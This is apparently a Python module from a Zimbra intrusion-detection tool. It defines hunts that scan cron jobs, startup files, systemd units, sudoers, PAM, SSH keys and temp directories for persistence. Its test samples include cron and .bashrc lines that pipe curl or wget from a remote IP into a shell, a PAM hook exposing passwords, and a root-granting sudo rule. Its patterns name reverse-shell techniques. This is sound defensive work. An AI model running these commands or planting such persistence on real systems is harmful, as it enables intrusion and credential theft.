"""Hunts in what the system runs or trusts: jobs, rules, keys, units, leftovers."""

from typing import Final

from zmward.catalog.hunt import BEHIND, Hunt, Sample
from zmward.catalog.installation import Z
from zmward.i18n import mark

WHO: Final = mark(
    "Find out who put it there before you remove it; an unknown one is a break-in "
    "until proved otherwise. Keep it with --save."
)
LOOK: Final = mark("Make sure that it is the site's own.")
CRON: Final = (
    r"/etc/crontab|/etc/cron\.(?:d|hourly|daily|weekly|monthly)/[^/]+"
    r"|/var/spool/cron/(?:crontabs/|atjobs/)?[^/]+|/var/spool/at/[^/]+|/etc/anacrontab"
)
STARTS: Final = (
    r"/etc/rc\.local|/etc/rc\.d/rc\.local|/etc/init\.d/[^/]+|/etc/profile"
    r"|/etc/profile\.d/[^/]+|/etc/(?:bash\.)?bashrc|/etc/environment|/etc/ssh/sshrc"
    r"|/etc/rc\.d/init\.d/[^/]+|/etc/logrotate\.d/[^/]+|/etc/update-motd\.d/[^/]+"
    r"|/etc/apt/apt\.conf\.d/[^/]+|/etc/udev/rules\.d/[^/]+"
    r"|/etc/NetworkManager/dispatcher\.d/[^/]+|/etc/network/if-[a-z-]+\.d/[^/]+"
    r"|(?:/etc|/run|/usr/local/lib|/usr/lib|/lib)/systemd/(?:system|user)-generators/[^/]+"
    rf"|(?:{Z}|/root)/\.(?:bashrc|bash_profile|profile|bash_login|bash_logout|ssh/rc)"
)
UNITS: Final = (
    r"/(?:etc|run|usr/local/lib|usr/lib|lib)/systemd/(?:system|user)/"
    rf"{BEHIND}\.(?:service|timer|path|socket|conf)"
)
_SHELL: Final = r"(?:/[^\s|]*/)?(?:ba|da|z|k)?sh\b"


def _then(*parts: str) -> str:
    """Return what finds some parts of a line in their order, in one pass.

    The first place where a part is found serves for all: none is tried again.
    """
    *some, last = parts
    return r"\A" + "".join(f"(?>[^\n]*?{one})" for one in some) + f"[^\n]*?{last}"


def _piped(programs: str, stops: str, into: str) -> str:
    """Return what finds a program with nothing that `stops` before the pipe.

    Each program is followed to the next one at most, so that all are in one pass.
    """
    own = rf"\b(?:{programs})\b"
    return rf"{own}(?:(?!{own})[^\n|{stops}])*+{into}"


# Something is fetched or unpacked and goes straight into a shell; or a shell is given
# to somebody far away. Each takes time as a line is long, whatever is in it.
_FETCHES: Final = "|".join(
    (
        _piped(
            *("curl|wget|fetch", ";&"),
            rf"\|\s*(?:sudo\s+)?{_SHELL}",
        ),
        _piped("curl|wget", "", r"\|\s*(?:/[^\s|]*/)?(?:python|perl|php)"),
        _then(r"\bbase64\s+(?:-d|-D|--decode)\b", rf"\|\s*{_SHELL}"),
        r"/dev/(?:tcp|udp)/|\bbash\s+-i\b",
        _then(r"\b(?:nc|ncat)\b", r"\s-[a-z]*e\b"),
        _then(r"\bmkfifo\b", r"\b(?:nc|ncat|openssl)\b"),
        _then(r"\bsocat\b", r"\bexec:"),
        _then(r"\beval\b", r"\b(?:curl|wget|base64)\b"),
        r"\bsh\s+-c\s+[\"']?\$\((?:curl|wget)\b",
        _then(
            r"\b(?:curl|wget)\b",
            r"-[oO]\s*\S",
            r"(?:&&|;)\s*(?:chmod|(?:ba)?sh|\./)",
        ),
    )
)
# Places to which everybody can write, and those whose names are hidden.
HIDDEN: Final = (
    r"(?:/tmp/|/var/tmp/|/dev/shm/|/run/shm/"
    rf"|{Z}/(?:data|log|jetty_base|store|index|zmstat)/|/\.[^./\s][^\s]*)"
)

_WHEN: Final = r"^(?:@\w+ |(?:[\d*/,\-A-Za-z]+ ){5})"
_BY: Final = (
    r"(?:(?:(?:/usr)?/bin/)?(?:nohup|nice|setsid|env|exec|timeout|sudo|(?:ba|da|z|k)?sh"
    r"|python[0-9.]*|perl|php[0-9.]*|ruby|java|source|\.) (?:-\S+ |\d+[smh]? )*[\"']?"
    r"|\w+=\S* )*"
)

SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
    Hunt(
        "job-fetches-code",
        "alarm",
        CRON,
        mark("a job that fetches or unpacks code and runs it, or opens a shell"),
        WHO,
        Sample(
            "/var/spool/cron/crontabs/zimbra",
            "*/15 * * * * curl -fsSL http://203.0.113.66/u.sh | sh >/dev/null 2>&1\n",
        ),
        Sample(
            "/var/spool/cron/crontabs/zimbra",
            "40 2 * * * /opt/zimbra/libexec/zmcleantmp\n# curl x | sh\n"
            "5 * * * * curl -fsS https://health.example.com/ping\n",
        ),
        holds=_FETCHES,
        lines=True,
    ),
    Hunt(
        "job-of-hidden-program",
        "alarm",
        r"/etc/crontab|/etc/cron\.d/[^/]+",
        mark("a job whose program lies where everybody writes, or in a hidden place"),
        WHO,
        Sample("/etc/cron.d/up", "* * * * * root /dev/shm/javab -d\n"),
        Sample("/etc/crontab", "2 3 * * * root find /opt/zimbra/log/ -delete\n"),
        holds=rf"{_WHEN}[a-z_][\w-]* {_BY}{HIDDEN}",
        lines=True,
    ),
    Hunt(
        "own-job-of-hidden-program",
        "alarm",
        r"/var/spool/cron/(?:crontabs/)?[^/]+",
        mark("a job whose program lies where everybody writes, or in a hidden place"),
        WHO,
        Sample("/var/spool/cron/crontabs/zimbra", "@reboot nohup /tmp/.x/run\n"),
        Sample(
            "/var/spool/cron/crontabs/zimbra",
            "10 * * * * /opt/zimbra/libexec/zmlogprocess > /tmp/x.out 2>&1\n"
            "2 3 * * * find /opt/zimbra/log/ -name \\*.log\\* -exec rm {} \\;\n",
        ),
        holds=rf"{_WHEN}{_BY}{HIDDEN}",
        lines=True,
    ),
    Hunt(
        "start-fetches-code",
        "alarm",
        f"{STARTS}|{UNITS}",
        mark("what runs at a start or a login fetches code and runs it"),
        WHO,
        Sample(f"{Z}/.bashrc", "wget -qO- http://203.0.113.66/a | bash\n"),
        Sample(f"{Z}/.bashrc", "export PATH=/opt/zimbra/bin:$PATH\nulimit -n 524288\n"),
        holds=_FETCHES,
        lines=True,
    ),
    Hunt(
        "unit-of-hidden-program",
        "alarm",
        UNITS,
        mark("a unit whose program lies where everybody writes, or in a hidden place"),
        WHO,
        Sample(
            "/etc/systemd/system/dbus-helper.service",
            "[Service]\nExecStart=/bin/sh /var/tmp/.x/run\n",
        ),
        Sample(
            "/etc/systemd/system/zimbra.service",
            "[Service]\nExecStart=/opt/zimbra/bin/zmcontrol start\n",
        ),
        holds=(
            r"^\s*Exec\w+\s*=\s*[-@:+!]*(?:(?:/usr)?/bin/(?:ba|da)?sh\s+(?:-c\s+)?"
            rf"[\"']?)?{HIDDEN}[^\n]*"
        ),
        lines=True,
    ),
    Hunt(
        "zimbra-is-root",
        "alarm",
        r"/etc/sudoers|/etc/sudoers\.d/[^/]+",
        mark("a rule of sudo that lets user zimbra, or everybody, run everything"),
        mark("Remove it once you know who wrote it (`visudo -c` after)."),
        Sample("/etc/sudoers.d/90-zimbra-admin", "zimbra ALL=(ALL) NOPASSWD: ALL\n"),
        Sample(
            "/etc/sudoers",
            "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"
            "%zimbra ALL=NOPASSWD:/opt/zimbra/libexec/zmstat-fd *\n",
        ),
        holds=(
            r"^[ \t]*(?:[^#\s=][^\n=]*,\s*)?(?:%?zimbra|ALL)\b[^\n=]*=[^\n]*?"
            r"(?:^|[\s:,=)])(?:ALL|/(?:usr/)?bin/(?:ba|da|z)?sh|/bin/su|/usr/bin/"
            r"(?:vim?|less|python3?|perl|env|find|tar|nano|awk))\s*(?:,[^\n]*)?$"
        ),
        lines=True,
    ),
    Hunt(
        "login-runs-a-program",
        "alarm",
        r"/etc/pam\.d/[^/]+|/etc/pam\.conf",
        mark("each login runs a program that lies in a hidden or an open place"),
        WHO,
        Sample(
            "/etc/pam.d/sshd",
            "auth optional pam_exec.so quiet expose_authtok /var/tmp/.a\n",
        ),
        Sample(
            "/etc/pam.d/sshd",
            "session optional pam_exec.so /usr/local/sbin/tell-login\n",
        ),
        holds=rf"\bpam_exec\.so\b.*(?:expose_authtok|{HIDDEN})",
        lines=True,
    ),
    Hunt(
        "login-asks-a-program",
        "look",
        r"/etc/pam\.d/[^/]+|/etc/pam\.conf",
        mark("each login runs a program"),
        LOOK,
        Sample(
            "/etc/pam.d/sshd",
            "session optional pam_exec.so /usr/local/sbin/tell-login\n",
        ),
        Sample(
            "/etc/pam.d/sshd", "# session pam_exec.so x\nauth required pam_unix.so\n"
        ),
        holds=r"\bpam_exec\.so\b",
        lines=True,
    ),
    Hunt(
        "key-without-command",
        "alarm",
        rf"{Z}/\.ssh/authorized_keys2?",
        mark("a key that logs in as zimbra and is not held to one command"),
        mark(
            "Servers' own keys run /opt/zimbra/libexec/zmrcd alone: find out whose it "
            "is, then let `zmupdateauthkeys` write the file anew."
        ),
        Sample(f"{Z}/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz deploy@unknown\n"),
        Sample(
            f"{Z}/.ssh/authorized_keys",
            '# ours\ncommand="/opt/zimbra/libexec/zmrcd" ssh-rsa AAAAB3Nz mail\n',
        ),
        holds=(
            r"^(?!(?:(?:[^\s\",]|\"(?:\\.|[^\"\\])*\")*,)*"
            r"command=\"/opt/zimbra/libexec/zmrcd\"[,\s])"
            r".*\b(?:ssh|ecdsa|sk-ssh|sk-ecdsa)-\S+ .+"
        ),
        lines=True,
        always=True,
    ),
    Hunt(
        "preloaded-library",
        "alarm",
        r"/etc/ld\.so\.preload",
        mark("a library that is loaded into every program of the host"),
        mark(
            "See which it is and whose, from a rescue system: a rootkit hides itself "
            "from programs that it is loaded into."
        ),
        Sample("/etc/ld.so.preload", "/usr/lib/libx.so\n"),
        Sample("/etc/ld.so.preload", "\n# nothing\n"),
        holds=r"\S",
        lines=True,
    ),
    Hunt(
        "known-leftover",
        "alarm",
        r"/tmp/443(?:\.icikiwirwakwaw)?|/tmp/c37fedb9ws|/dev/shm/(?:javab|\.rguard|idle)"
        r"|/tmp/zmcat|/opt/zimbra/log/zmswatch"
        r"|/tmp/(?:agent2\.sh|zimdown2|zimclient2|zimbra-exfil[^/]*)",
        mark("a leftover that known campaigns against Zimbra leave"),
        WHO,
        Sample("/tmp/zimdown2", "x", owner="zimbra"),
        Sample("/tmp/zimdown2.log", "x", owner="zimbra"),
    ),
    Hunt(
        "program-in-open-place",
        "alarm",
        rf"/dev/shm/{BEHIND}",
        mark("a program in memory that everybody may write to"),
        WHO,
        Sample("/dev/shm/kworker", "ELF", 0o755, "zimbra"),
        Sample("/dev/shm/PostgreSQL.1", "x", 0o600),
        bits=0o111,
    ),
    Hunt(
        "program-of-zimbra-in-open-place",
        "look",
        rf"/(?:var/)?tmp/{BEHIND}",
        mark("a program of user zimbra among temporary files"),
        WHO,
        Sample("/tmp/run", "ELF", 0o755, "zimbra"),
        Sample("/tmp/run", "ELF", 0o755, "root"),
        bits=0o111,
        owner="zimbra",
    ),
    Hunt(
        "set-id-in-open-place",
        "alarm",
        rf"/(?:tmp|var/tmp|dev/shm)/{BEHIND}|{Z}/data/tmp/{BEHIND}",
        mark("a program among temporary files that gives its owner's rights"),
        WHO,
        Sample("/var/tmp/.su", "ELF", 0o4755),
        Sample("/var/tmp/.su", "ELF", 0o755),
        bits=0o6000,
        always=True,
    ),
    Hunt(
        "set-uid-in-zimbra",
        "alarm",
        rf"{Z}/{BEHIND}",
        mark("a program of the installation that gives its owner's rights"),
        mark("Zimbra ships none: take the bit off once you know who set it."),
        Sample(f"{Z}/common/bin/bash2", "ELF", 0o4755),
        Sample(f"{Z}/common/sbin/postdrop", "ELF", 0o2755),
        bits=0o4000,
        always=True,
    ),
    Hunt(
        "set-gid-in-zimbra",
        "look",
        rf"{Z}/{BEHIND}",
        mark("a program of the installation that gives its group's rights"),
        LOOK,
        Sample(f"{Z}/common/sbin/postlog", "ELF", 0o2755),
        Sample(f"{Z}/common/sbin/postqueue", "ELF", 0o2755),
        known=frozenset({f"{Z}/common/sbin/postdrop", f"{Z}/common/sbin/postqueue"}),
        bits=0o2000,
        always=True,
    ),
)
